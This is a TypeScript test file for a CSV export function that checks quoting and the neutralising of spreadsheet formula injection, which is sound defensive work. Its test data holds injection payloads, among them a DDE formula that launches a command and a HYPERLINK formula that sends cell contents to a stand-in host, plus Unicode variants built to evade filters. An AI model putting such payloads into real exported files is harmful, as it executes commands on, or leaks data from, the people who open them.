import { describe, expect, it } from 'vitest'
import { csv } from '../../src/notify/mail-csv.ts'

const field = (value: string, separator: ',' | ';' = ',') => {
  const line = csv([[value]], separator).toString('utf8')
  return line.slice(2, -3)
}

it('quotes fields, ends lines as RFC 4180 says and begins with a mark for the accents', () => {
  expect(
    csv(
      [
        ['é', 'a"b'],
        ['c,d', ''],
      ],
      ',',
    ).toString('utf8'),
  ).toBe('\uFEFF"é","a""b"\r\n"c,d",""\r\n')
})

describe('a formula', () => {
  it.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.test?"&A1,"ok")',
    '；=1+1',
    ';=1+1',
    '"=1+1',
    '＝1+1',
    '＋1+1',
    '－1',
    '＠SUM(1)',
    '\uFEFF=1+1',
    '\u200B=1+1',
    ' =1+1',
    'a;=1+1',
    'a,@x',
    '-5',
    '+33 6 12 34 56 78',
  ])('%j is text', (value) => {
    for (const separator of [',', ';'] as const) {
      expect(field(value, separator)).not.toMatch(/(^|[;,"])\s*[=+\-@＝＋－＠]/)
    }
  })

  it('leaves ordinary text alone', () => {
    expect(field('Lumen - trop cher, vraiment; a@b.example')).toBe('Lumen - trop cher, vraiment; a@b.example')
  })
})
